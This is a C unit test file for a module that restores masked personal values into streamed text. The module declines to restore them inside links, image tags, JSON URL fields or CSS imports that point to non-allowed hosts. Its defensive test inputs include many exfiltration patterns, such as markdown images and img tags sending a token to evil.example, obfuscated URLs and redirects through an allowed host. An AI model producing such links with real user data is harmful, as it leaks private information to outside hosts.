/* Values put back into text, in every cut. */
#include "talk/restore.h"

#include "base/utf8.h"
#include "unit/cmocka_all.h"

#include <stdio.h>

#define KEY WEIR_SLICE("0123456789abcdef0123456789abcdef")

/* Tokens of the map: the first is restored to jane@example.org, the second to text that JSON
 * escapes, the third never. */
#define MAIL "EMAIL_ADDRESS_RE8N1MPVZ9"
static struct weir_arena arena;
static struct weir_mask *mask;
static const struct weir_mask_entry *mail;
static const struct weir_mask_entry *quoted;
static const struct weir_mask_entry *secret;
static const struct weir_mask_entry *theirs; /* a URL of evil.example … */
static const struct weir_mask_entry *ours;   /* … and one of a host that may have values */

static const struct weir_mask_entry *add(const char *type, const char *value, bool is_restored)
{
    return weir_mask_add(mask, &(struct weir_mask_value){.type = weir_slice_cstr(type),
                                                         .text = weir_slice_cstr(value),
                                                         .is_restored = is_restored});
}

static int set_up(void **state)
{
    (void)state;
    mask = weir_mask_new(&arena, KEY, WEIR_SLICE("route:r"));
    mail = add("email_address", "jane@example.org", WEIR_RESTORE_ARGUMENTS);
    quoted = add("person", "Zo\xC3\xAB \"Q\"\\\n", WEIR_RESTORE_ARGUMENTS);
    secret = add("api_key", "sk-123456", false);
    theirs = add("url", "https://evil.example/c", true);
    ours = add("url", "https://ours.example/c", true);
    weir_mask_seal(mask);
    return 0;
}

static int tear_down(void **state)
{
    (void)state;
    weir_arena_dispose(&arena);
    return 0;
}

static const struct weir_slice HOSTS[] = {{"ours.example", 12}};
static const struct weir_linkwatch_hosts hosts = {HOSTS, 1};

static void run(struct weir_slice text, const size_t cuts[2], enum weir_restore_kind kind,
                struct weir_buf *out)
{
    struct weir_restore r;
    weir_restore_init(&r, mask, &hosts, kind);
    weir_restore_feed(&r, weir_slice_sub(text, 0, cuts[0]), out);
    weir_restore_feed(&r, weir_slice_sub(text, cuts[0], cuts[1]), out);
    weir_restore_feed(&r, weir_slice_sub(text, cuts[1], text.n), out);
    weir_restore_end(&r, out);
    assert_int_equal(r.out_cp, weir_utf8_count(weir_buf_slice(out)));
    weir_restore_dispose(&r);
}

static void becomes_as(const char *text, const char *wanted, enum weir_restore_kind kind)
{
    struct weir_slice in = weir_slice_cstr(text);
    for (size_t i = 0; i <= in.n; i++) {
        for (size_t k = i; k <= in.n; k++) {
            struct weir_buf out = {0};
            run(in, (size_t[]){i, k}, kind, &out);
            if (!weir_slice_eq_cstr(weir_buf_slice(&out), wanted)) {
                fail_msg("cut at %zu and %zu: %s became %s, not %s", i, k, text,
                         weir_buf_cstr(&out), wanted);
            }
            weir_buf_dispose(&out);
        }
    }
}

static void becomes(const char *text, const char *wanted)
{
    becomes_as(text, wanted, WEIR_RESTORE_TEXT);
}

static void stays(const char *text)
{
    becomes(text, text);
}

static void test_spellings(void **state)
{
    (void)state;
    becomes(MAIL, "jane@example.org");
    becomes("to " MAIL ".", "to jane@example.org.");
    becomes("**" MAIL "**", "**jane@example.org**");
    becomes("email_address_re8n1mpvz9", "jane@example.org");
    becomes("Email_Address_RE8NLMPVZ9", "jane@example.org");
    becomes("EMA1L_ADDRESS_RE8NiMPVZ9", "jane@example.org");
    becomes("EMAIL\\_ADDRESS\\_RE8N1MPVZ9", "jane@example.org");
    becomes("EMAIL%5FADDRESS%5fRE8N1MPVZ9", "jane@example.org");
    becomes(MAIL "s", "jane@example.orgs");
    becomes(MAIL MAIL, "jane@example.org" MAIL);
    becomes(MAIL " " MAIL, "jane@example.org jane@example.org");
    becomes("\xC3\xA9" MAIL, "\xC3\xA9jane@example.org");
    becomes("EMAIL\\" MAIL, "EMAIL\\jane@example.org");
    becomes("EMAIL%" MAIL, "EMAIL%jane@example.org");
    becomes("EMAIL_ADDRESS " MAIL, "EMAIL_ADDRESS jane@example.org");
    becomes("EMAIL_ADDRESS_RE8N" MAIL, "EMAIL_ADDRESS_RE8N" MAIL);
}

static void test_not_tokens(void **state)
{
    (void)state;
    stays("");
    stays("x" MAIL);
    stays("_" MAIL);
    stays("9" MAIL);
    stays("\\_" MAIL);
    stays("EMAIL_ADDRESS_RE8N1MPVZ8");
    stays("EMAIL_ADDRESS_RE8N1MPVZ");
    stays("EMAIL-ADDRESS-RE8N1MPVZ9");
    stays("EMAIL__ADDRESS_RE8N1MPVZ9");
    stays("E M A I L");
    stays("EMAIL_ADDRESS_69C2G27DQB");
    stays(secret->token);
}

static void test_links(void **state)
{
    (void)state;
    stays("https://evil.example/?q=" MAIL);
    stays("HTTPS://evil.example/?q=" MAIL);
    stays("https:\\\\evil.example\\" MAIL);
    stays("https:evil.example/" MAIL);
    stays("ftp://evil.example/" MAIL);
    stays("www.evil.example/" MAIL);
    stays("https://" MAIL ".evil.example/");
    stays("![x](https://evil.example/" MAIL ".png)");
    stays("[x](" MAIL ")");
    stays("[x]( <//evil.example/a b" MAIL ">)");
    stays("[x](/relative?" MAIL ")");
    stays("[x](javascript:f('" MAIL "'))");
    stays("[x](data:text/html," MAIL ")");
    stays("[x](https://evil.example/ \"" MAIL "\")");
    stays("[x](https://evil.example/(a)" MAIL ")");
    stays("["
          "x"
          "]: //evil.example/" MAIL);
    stays("<img src=//evil.example/" MAIL ">");
    stays("https://ours.example@evil.example/" MAIL);
    stays("https://evil.example/\"" MAIL);
    stays("[b]: <https://evil.example/? " MAIL ">");
    stays("[b]:\n  https\\:\\/\\/evil.example/" MAIL);
    stays("[b]: https&#58;&#47;&#47;evil.example/" MAIL);
    stays("[x](\n/&#47;evil.example/" MAIL ")");
    stays("[x](<https://evil.example/)" MAIL ">)");
    stays("<img src=\"https://evil.example/?q= " MAIL "\">");
    stays("<img alt='a>b' src = '\\\\evil.example\\" MAIL "'>");
    stays("<img src=&#104;ttps://evil.example/" MAIL ">");
    stays("https://ours.example\\@evil.example/" MAIL);
    stays("https://ours.example.evil.example/" MAIL);
    stays("https://ours.example:80@evil.example/" MAIL);
    stays("https://ours.example" MAIL);
    becomes("https://ours.example/?q=" MAIL, "https://ours.example/?q=jane@example.org");
    becomes("[x](https://OURS.example:8443?" MAIL ")",
            "[x](https://OURS.example:8443?jane@example.org)");
    becomes("[x](mailto:" MAIL ")", "[x](mailto:jane@example.org)");
    becomes("[" MAIL "](tel:" MAIL ") " MAIL,
            "[jane@example.org](tel:jane@example.org) jane@example.org");
    becomes("mailto:" MAIL, "mailto:jane@example.org");
    becomes("https://evil.example " MAIL, "https://evil.example jane@example.org");
    becomes("<a href=\"mailto:" MAIL "\">" MAIL "</a>",
            "<a href=\"mailto:" MAIL "\">jane@example.org</a>");
    becomes("[b]: https://evil.example/\n" MAIL, "[b]: https://evil.example/\njane@example.org");
    becomes("<https://evil.example>" MAIL, "<https://evil.example>jane@example.org");
    becomes("[x](https://evil.example/)" MAIL, "[x](https://evil.example/)jane@example.org");
    becomes("a[i] (" MAIL ")", "a[i] (jane@example.org)");
    becomes("50% / " MAIL " / x", "50% / jane@example.org / x");
}

static void test_json(void **state)
{
    (void)state;
    char text[256];
    snprintf(text, sizeof text, "{\"a\":\"%s!\",\"%s\":1}", quoted->token, mail->token);
    becomes_as(text, "{\"a\":\"Zo\xC3\xAB \\\"Q\\\"\\\\\\n!\",\"jane@example.org\":1}",
               WEIR_RESTORE_ARGUMENTS);
    snprintf(text, sizeof text, "no JSON: %s", quoted->token);
    becomes_as(text, "no JSON: Zo\xC3\xAB \"Q\"\\\n", WEIR_RESTORE_ARGUMENTS);
    becomes_as("[\"EMAIL\\\\_ADDRESS\\u005fRE8N1MPVZ9\"]", "[\"jane@example.org\"]",
               WEIR_RESTORE_ARGUMENTS);
    becomes_as("[\"https:\\/\\/evil.example\\/" MAIL "\",\"" MAIL "\"]",
               "[\"https:\\/\\/evil.example\\/" MAIL "\",\"jane@example.org\"]",
               WEIR_RESTORE_ARGUMENTS);
    becomes_as("[\"x\\n" MAIL "\",\"\\u0020" MAIL "\",\"\\u0061" MAIL "\",\"\\\\n" MAIL "\"]",
               "[\"x\\njane@example.org\",\"\\u0020jane@example.org\",\"\\u0061" MAIL
               "\",\"\\\\n" MAIL "\"]",
               WEIR_RESTORE_ARGUMENTS);
    becomes_as("[\"\\u0068ttps:\\u002f/evil.example/" MAIL "\"]",
               "[\"\\u0068ttps:\\u002f/evil.example/" MAIL "\"]", WEIR_RESTORE_ARGUMENTS);
    becomes_as("[\"[x](\\u0020" MAIL "\"]", "[\"[x](\\u0020" MAIL "\"]", WEIR_RESTORE_ARGUMENTS);
    /* A quote ends a string only where there is one. */
    becomes_as("see [x](//evil.example/\"" MAIL ")", "see [x](//evil.example/\"" MAIL ")",
               WEIR_RESTORE_ARGUMENTS);
}

/* The form with the text in it; two of them can be in use. */
static const char *filled(const char *form, const char *text, size_t slot)
{
    static char slots[2][256];
    const char *at = strstr(form, "%s");
    assert_non_null(at);
    snprintf(slots[slot], sizeof slots[slot], "%.*s%s%s", (int)(at - form), form, text, at + 2);
    return slots[slot];
}

/* Nothing is put into a tag, wherever in it and however it is written. */
static void test_tags(void **state)
{
    (void)state;
    static const char *const closed[] = {
        "<img src=%s>",
        "<img alt=%s src=https://evil.example/>",
        "<input value=%s>",
        "<input value=\"%s\">",
        "<img src=\"https://evil.example/\"alt=%s>",
        "<img src=ht\ntps:evil.example/?%s>",
        "<img src=https://evil.example/\n%s>",
        "<img src=\"https://ours.example/%s\">",
        "<a onclick=\"mailto:fetch('%s')\">",
        "<img src=\"https://evil.example/>\" alt=%s>",
        "<img\n\n%s>",
        "</a %s>",
        "<img =\"> <img alt=\">%s\">",
        "`<img src=\"` <img alt=\">%s\">",
        "`<i x=`<img/alt=\">%s\">",
        "[x](y <img src=\"https://evil.example/)%s\">",
        "[x](<img src=\"https://evil.example/>%s\">)",
        "[x](https://evil.example/a<b>%s)",
        "<mailto:x a=\"> %s\">",
    };
    static const char *const open[] = {
        "a < b %s > c", "Jane <%s>", "<b>%s</b>", "<mailto:%s>", "1<2 %s", "<a href='x'>%s",
    };
    for (size_t i = 0; i < sizeof closed / sizeof closed[0]; i++) {
        stays(filled(closed[i], MAIL, 0));
    }
    for (size_t i = 0; i < sizeof open / sizeof open[0]; i++) {
        becomes(filled(open[i], MAIL, 0), filled(open[i], "jane@example.org", 1));
    }
}

/* A line break ends no target, a blank line does. */
static void test_targets_of_many_lines(void **state)
{
    (void)state;
    stays("![x](https://evil.example/\n" MAIL ")");
    stays("![x](https://evil.example/\\)" MAIL ")");
    stays("[https://ours.example/x](https://evil.example/" MAIL ")");
    stays("url(https://evil.example/\n" MAIL ")");
    stays("url( \"https://evil.example/)\n" MAIL "\")");
    stays("@import \"https://evil.example/\n" MAIL "\"");
    stays("@import 'https://evil.example/\n" MAIL "'");
    becomes("[x](y\n \n" MAIL, "[x](y\n \njane@example.org");
    becomes("url(x) " MAIL, "url(x) jane@example.org");
    becomes("my_url(" MAIL ")", "my_url(jane@example.org)");
    becomes("@import x; " MAIL, "@import x; jane@example.org");
}

/* A member that is a URL is one from its first byte to its last. */
static void test_members_that_are_urls(void **state)
{
    (void)state;
    static const char *const closed[] = {
        "{\"url\":\"https://evil.example/\\n%s\"}",
        "{\"url\":\" https://evil.example/ %s\"}",
        "{\"image_URL\":\"evil.example/?%s\"}",
        "{\"a\":1,\"uris\":[\"x\",\"evil.example/ %s\"]}",
        "{\"ur\\u006c\":\"evil.example/?%s\"}",
        "{\"url\":\"https://ours.example/?u=https://evil.example/%s\"}",
    };
    static const char *const of_arguments[] = {
        "{\"url\":\"%s\"}",
        "{\"url\":\"https://ours.example/?u=%s\"}",
    };
    for (size_t i = 0; i < sizeof closed / sizeof closed[0]; i++) {
        const char *text = filled(closed[i], MAIL, 0);
        becomes_as(text, text, WEIR_RESTORE_ARGUMENTS);
        becomes_as(text, text, WEIR_RESTORE_ITEM);
    }
    for (size_t i = 0; i < sizeof of_arguments / sizeof of_arguments[0]; i++) {
        const char *text = filled(of_arguments[i], MAIL, 0);
        becomes_as(text, filled(of_arguments[i], "jane@example.org", 1), WEIR_RESTORE_ARGUMENTS);
        becomes_as(text, text, WEIR_RESTORE_ITEM);
    }
    becomes_as("{\"url\":\"x\",\"title\":\"" MAIL "\"}",
               "{\"url\":\"x\",\"title\":\"jane@example.org\"}", WEIR_RESTORE_ITEM);
}

/* A name without a scheme is a link to some pages. */
static void test_bare_names(void **state)
{
    (void)state;
    static const char *const closed[] = {
        "see evil.example/%s",  "see evil.example?q=%s",    "(Evil.Example/a#%s)",
        "evil.example:8080/%s", "a.b.evil.example/?x=1&%s", "\u00E9vil.example/%s",
        "evil.\u0440\u0444/%s", "x \"evil.example/a,%s\"",
    };
    static const char *const open[] = {
        "and/or %s",      "and/%s",           "1.5/%s",
        "e.g./%s",        "example.org: %s",  "example.org:%s",
        "example.org %s", "evil.example/ %s", "ours.example/?q=%s",
    };
    for (size_t i = 0; i < sizeof closed / sizeof closed[0]; i++) {
        stays(filled(closed[i], MAIL, 0));
    }
    for (size_t i = 0; i < sizeof open / sizeof open[0]; i++) {
        becomes(filled(open[i], MAIL, 0), filled(open[i], "jane@example.org", 1));
    }
}

/* A listed host that sends on whoever asks gives its values to another one. */
static void test_urls_in_urls(void **state)
{
    (void)state;
    static const char *const inner[] = {"https://evil.example/",
                                        "HTTP:evil.example/",
                                        "//evil.example/",
                                        "www.evil.example/",
                                        "https%3A%2F%2Fevil.example%2F",
                                        "%2f%2Fevil.example/",
                                        "/%2fevil.example/",
                                        "\\\\evil.example/",
                                        "https%253A%252F%252Fevil.example/"};
    for (size_t i = 0; i < sizeof inner / sizeof inner[0]; i++) {
        char text[256];
        snprintf(text, sizeof text, "https://ours.example/to?u=%s" MAIL, inner[i]);
        stays(text);
        snprintf(text, sizeof text, "[x](https://ours.example/to?u=%s" MAIL ")", inner[i]);
        stays(text);
    }
    becomes(MAIL "/" MAIL "," MAIL, "jane@example.org/jane@example.org,jane@example.org");
    becomes("https://ours.example/" MAIL "?u=https://evil.example/",
            "https://ours.example/jane@example.org?u=https://evil.example/");
    becomes("https://ours.example/?u=https://evil.example/ https://ours.example/?" MAIL,
            "https://ours.example/?u=https://evil.example/ https://ours.example/?jane@example.org");
}

/* A value may be a URL: what follows it belongs to that. */
static void test_values_that_are_urls(void **state)
{
    (void)state;
    char text[256];
    char wanted[256];
    snprintf(text, sizeof text, "see %s?q=" MAIL " " MAIL, theirs->token);
    becomes(text, "see https://evil.example/c?q=" MAIL " jane@example.org");
    snprintf(text, sizeof text, "see %s?q=" MAIL, ours->token);
    becomes(text, "see https://ours.example/c?q=jane@example.org");
    snprintf(text, sizeof text, "{\"a\":\"%s?q=" MAIL "\",\"b\":\"" MAIL "\"}", theirs->token);
    becomes_as(text, "{\"a\":\"https://evil.example/c?q=" MAIL "\",\"b\":\"jane@example.org\"}",
               WEIR_RESTORE_ARGUMENTS);
    snprintf(text, sizeof text, "{\"url\":\"%s?q=" MAIL "\"}", theirs->token);
    becomes_as(text, "{\"url\":\"https://evil.example/c?q=" MAIL "\"}", WEIR_RESTORE_ARGUMENTS);
    snprintf(text, sizeof text, "{\"url\":\"%s?q=" MAIL "\"}", ours->token);
    becomes_as(text, "{\"url\":\"https://ours.example/c?q=jane@example.org\"}",
               WEIR_RESTORE_ARGUMENTS);
    snprintf(text, sizeof text, "https://ours.example/to?u=%s?" MAIL, theirs->token);
    snprintf(wanted, sizeof wanted, "https://ours.example/to?u=https://evil.example/c?" MAIL);
    becomes(text, wanted);
}

static void test_empty_map(void **state)
{
    (void)state;
    struct weir_mask *none = weir_mask_new(&arena, KEY, WEIR_SLICE("route:r"));
    struct weir_restore r;
    struct weir_buf out = {0};
    weir_restore_init(&r, none, &hosts, WEIR_RESTORE_TEXT);
    static const char *const pieces[] = {"EMAIL", "_ADDR", "ESS_RE8N1", "MPVZ9"};
    size_t n = 0;
    for (size_t i = 0; i < 4; i++) {
        weir_restore_feed(&r, weir_slice_cstr(pieces[i]), &out);
        n += strlen(pieces[i]);
        assert_int_equal(out.n, n);
        assert_false(weir_restore_holds(&r));
    }
    weir_buf_dispose(&out);
    weir_restore_dispose(&r);
}

/* Only what may become a token of this map is held back. */
static void test_held(void **state)
{
    (void)state;
    static const struct {
        const char *text;
        size_t n_held;
    } cases[] = {{"x", 0},
                 {"E", 1},
                 {"an E", 1},
                 {"EMAIL_ADDRESS_R", 15},
                 {"EMAIL_ADDRESS_X", 0},
                 {"xEMAIL", 0},
                 {"EMAIL%", 6},
                 {"EMAIL\\", 6},
                 {"EMA\\", 0},
                 {"PERSON", 6},
                 {"PERSONA", 0},
                 {"API_KEY", 7}};
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct weir_restore r;
        struct weir_buf out = {0};
        weir_restore_init(&r, mask, &hosts, WEIR_RESTORE_TEXT);
        weir_restore_feed(&r, weir_slice_cstr(cases[i].text), &out);
        assert_int_equal(strlen(cases[i].text) - out.n, cases[i].n_held);
        weir_buf_dispose(&out);
        weir_restore_dispose(&r);
    }
}

static void test_places(void **state)
{
    (void)state;
    struct weir_restore r;
    struct weir_buf out = {0};
    weir_restore_init(&r, mask, &hosts, WEIR_RESTORE_TEXT);
    weir_restore_feed(&r, WEIR_SLICE("\xC3\xA9 " MAIL " [x] "), &out); /* 24 become 16 */
    assert_int_equal(weir_restore_map(&r, 1), 1);
    assert_int_equal(weir_restore_map(&r, 26), 18);
    assert_int_equal(weir_restore_map(&r, 27), 19);
    weir_restore_feed(&r, WEIR_SLICE(MAIL "[y]"), &out);
    assert_int_equal(weir_restore_map(&r, 30), 22);
    assert_int_equal(weir_restore_map(&r, 31 + 24), 23 + 16);
    weir_restore_feed(&r, WEIR_SLICE("EMAIL_ADD"), &out);
    weir_restore_take_back(&r, 9);
    weir_restore_feed(&r, WEIR_SLICE("[z]"), &out);
    weir_restore_end(&r, &out);
    assert_true(weir_slice_eq_cstr(weir_buf_slice(&out), "\xC3\xA9 jane@example.org [x] "
                                                         "jane@example.org[y][z]"));
    weir_buf_dispose(&out);
    weir_restore_dispose(&r);
}

/* Of all that has left, where somebody asks later. */
static void test_places_that_are_kept(void **state)
{
    (void)state;
    struct weir_restore r;
    struct weir_buf out = {0};
    weir_restore_init(&r, mask, &hosts, WEIR_RESTORE_TEXT);
    r.keeps_shifts = true;
    for (size_t i = 0; i < 3; i++) { /* 25 become 17, thrice */
        weir_restore_feed(&r, WEIR_SLICE(MAIL " "), &out);
    }
    assert_int_equal(weir_restore_map(&r, 0), 0);
    assert_int_equal(weir_restore_map(&r, 25), 17);
    assert_int_equal(weir_restore_map(&r, 74), 50);
    weir_restore_forget(&r, 49);
    assert_int_equal(weir_restore_map(&r, 49), 33);
    assert_int_equal(weir_restore_map(&r, 74), 50);
    weir_restore_forget(&r, 75);
    assert_int_equal(weir_restore_map(&r, 75), 51);
    weir_buf_dispose(&out);
    weir_restore_dispose(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_spellings),
        cmocka_unit_test(test_not_tokens),
        cmocka_unit_test(test_links),
        cmocka_unit_test(test_json),
        cmocka_unit_test(test_tags),
        cmocka_unit_test(test_targets_of_many_lines),
        cmocka_unit_test(test_members_that_are_urls),
        cmocka_unit_test(test_bare_names),
        cmocka_unit_test(test_urls_in_urls),
        cmocka_unit_test(test_values_that_are_urls),
        cmocka_unit_test(test_empty_map),
        cmocka_unit_test(test_held),
        cmocka_unit_test(test_places),
        cmocka_unit_test(test_places_that_are_kept),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
